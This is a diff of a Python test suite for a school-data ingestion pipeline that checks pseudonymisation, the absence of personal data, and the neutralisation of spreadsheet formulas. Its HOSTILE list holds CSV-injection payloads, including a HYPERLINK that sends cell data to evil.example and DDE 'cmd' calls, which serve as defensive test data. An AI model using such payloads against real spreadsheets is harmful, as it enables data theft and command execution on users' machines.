@@ -16,12 +16,14 @@ from alembic import command
 from sqlalchemy import MetaData, String, Text, create_engine, insert, select, text
 from sqlalchemy.exc import ProgrammingError
 
+from flows.failure_output import render
 from kansenmonitor.db import Attendance, IndicatorValue, QuarantinedRow, make_engine
 from kansenmonitor.migrate import alembic_config, migrate
-from tasks.ingest.failures import failed_rows, write_correction_sheets, write_listing_csv
+from tasks.ingest.correction_workbook import write_correction_workbook
+from tasks.ingest.failures import by_source, failed_rows, write_correction_csvs
 from tasks.ingest.files import ingest_file
 from tasks.ingest.pseudonymise import KEY_VARIABLE, SECRET_BLOCK_VARIABLE, MissingKeyError, pseudonym_key
-from tests.conftest import PG_ADMIN_URL, ROOT
+from tests.conftest import ROOT
 from tests.deliveries import attendance, planning, present, session, write_csv, write_xlsx
 
 KEY = b"security-test-key"
@@ -64,10 +66,10 @@ def test_the_key_can_come_from_a_prefect_secret_block(prefect_harness, monkeypat
     from prefect.blocks.system import Secret
 
     name = f"pseudonym-key-{uuid.uuid4().hex[:8]}"
-    Secret(value="key-from-the-block").save(name)
+    Secret(value="key-from-the-block-at-least-32-bytes").save(name)
     monkeypatch.delenv(KEY_VARIABLE, raising=False)
     monkeypatch.setenv(SECRET_BLOCK_VARIABLE, name)
-    assert pseudonym_key() == b"key-from-the-block"
+    assert pseudonym_key() == b"key-from-the-block-at-least-32-bytes"
 
 
 def _attendance_with_failures(engine, backpack, tmp_path):
@@ -98,9 +100,9 @@ def test_pupil_numbers_appear_nowhere_in_the_database(engine, backpack, tmp_path
 def test_a_corrected_attendance_row_is_still_the_same_child(engine, backpack, tmp_path):
     _attendance_with_failures(engine, backpack, tmp_path)
     not_planned = [r for r in failed_rows(engine) if r.raw["Datum"] == "19-09-2024"]
-    [sheet] = write_correction_sheets(not_planned, tmp_path / "correctie.xlsx")
+    sheet = write_correction_workbook(by_source(not_planned), tmp_path / "correctie.xlsx", backpack)
     assert not any(p in json.dumps([c.value for row in openpyxl.load_workbook(sheet).active.iter_rows()
-                                    for c in row]) for p in PUPILS)
+                                    for c in row], default=str) for p in PUPILS)
     (tmp_path / "v2").mkdir()
     ingest_file(engine, backpack, write_csv(tmp_path / "v2" / "planning2.csv",
                                             planning(session(date="19-09-2024"))), KEY)
@@ -122,8 +124,8 @@ def test_child_names_and_email_addresses_are_never_stored(engine, backpack, tmp_
              "OBS de Aanloop", "negen", "Soms", "Ja", "7", ""]]
     result = ingest_file(engine, backpack, write_xlsx(tmp_path / "kindvragenlijst.xlsx", rows), KEY)
     assert (result.rows_loaded, result.rows_quarantined) == (1, 2)
-    written = write_correction_sheets(failed_rows(engine), tmp_path / "correctie.csv")
-    written.append(write_listing_csv(failed_rows(engine), tmp_path / "fouten.csv"))
+    written = write_correction_csvs(failed_rows(engine), tmp_path / "correctie.csv")
+    written.append(_listing_csv(failed_rows(engine), tmp_path / "fouten.csv"))
     everything = stored_text(engine) + "".join(p.read_text(encoding="utf-8-sig") for p in written)
     personal = ["Sanne", "Vries", "Bram", "Jansen", "Eva Smit", "@school.nl", "Naam", "E-mail"]
     assert [p for p in personal if p in everything] == []
@@ -134,6 +136,12 @@ HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'
            "@SUM(1+1)*cmd|' /C calc'!A0", "<script>alert('x')</script>", "=1+1"]
 
 
+def _listing_csv(rows, path):
+    """`failures --format csv` as a file."""
+    path.write_text(render(rows, "csv"), encoding="utf-8")
+    return path
+
+
 def _quarantine_hostile_titles(engine, backpack, tmp_path):
     sessions = [session(title=t, date="31-02-2025") for t in HOSTILE]
     ingest_file(engine, backpack, write_csv(tmp_path / "planning.csv", planning(*sessions)), KEY)
@@ -142,25 +150,25 @@ def _quarantine_hostile_titles(engine, backpack, tmp_path):
 
 def test_formulas_are_neutralised_in_every_written_csv(engine, backpack, tmp_path):
     rows = _quarantine_hostile_titles(engine, backpack, tmp_path)
-    [sheet] = write_correction_sheets(rows, tmp_path / "correctie.csv")
-    listing = write_listing_csv(rows, tmp_path / "fouten.csv")
+    [sheet] = write_correction_csvs(rows, tmp_path / "correctie.csv")
+    listing = _listing_csv(rows, tmp_path / "fouten.csv")
     for path in (sheet, listing):
         with path.open(encoding="utf-8-sig", newline="") as handle:
             cells = [c for line in csv.reader(handle, delimiter=";") for c in line]
         assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
     with sheet.open(encoding="utf-8-sig", newline="") as handle:
-        titles = [line[5] for line in csv.reader(handle, delimiter=";")][1:]
+        titles = [line[6] for line in csv.reader(handle, delimiter=";")][1:]
     assert titles == ["'" + t if t[0] in "=+-@" else t for t in HOSTILE]
 
 
 def test_formulas_in_a_written_xlsx_are_text_and_round_trip(engine, backpack, tmp_path):
     rows = _quarantine_hostile_titles(engine, backpack, tmp_path)
-    [sheet] = write_correction_sheets(rows, tmp_path / "correctie.xlsx")
+    sheet = write_correction_workbook(by_source(rows), tmp_path / "correctie.xlsx", backpack)
     with zipfile.ZipFile(sheet) as archive:
         xml = archive.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in xml and "<f " not in xml
     cells = openpyxl.load_workbook(sheet).active
-    assert [(c.value, c.data_type) for c in cells["F"]][1:] == [(t, "s") for t in HOSTILE]
+    assert [(c.value, c.data_type) for c in cells["G"]][1:] == [(t, "s") for t in HOSTILE]
     result = ingest_file(engine, backpack, sheet, KEY)
     assert (result.rows_read, result.rows_quarantined) == (len(HOSTILE), len(HOSTILE))
     assert sorted(r.raw["Activiteit"] for r in failed_rows(engine, file="correctie.xlsx")) == sorted(HOSTILE)
@@ -169,9 +177,9 @@ def test_formulas_in_a_written_xlsx_are_text_and_round_trip(engine, backpack, tm
 # --- roles (PostgreSQL only) ------------------------------------------------------------------------------
 
 @pytest.fixture
-def login_as(pg_url):
+def login_as(pg_url, pg_admin_url):
     """Login users made members of a kansenmonitor group role, the way a deployment would; dropped afterwards."""
-    admin = create_engine(PG_ADMIN_URL, isolation_level="AUTOCOMMIT")
+    admin = create_engine(pg_admin_url, isolation_level="AUTOCOMMIT")
     made, engines = [], []
 
     def login(group: str):
@@ -246,7 +254,7 @@ def test_the_loader_closes_a_period_gate_indicators_reports_and_mail(prefect_har
     ingest_file(loader, backpack, write_csv(tmp_path / "a.csv", attendance(present(PUPILS[0]), present(PUPILS[1]))),
                 KEY)
     result = close_period(str(ROOT / "config" / "borger-odoorn.yaml"), "2024-2025-H1", url, str(tmp_path / "out"))
-    assert result["quality"].data_docs.exists()
+    assert result["quality"].page.exists()
     assert (tmp_path / "out" / "indicators.csv").read_text(encoding="utf-8").count("\n") > 10
     assert {d.status for d in result["dispatches"]} == {"sent"}
     assert len(list((tmp_path / "out" / "outbox").glob("*.eml"))) == len(result["dispatches"])
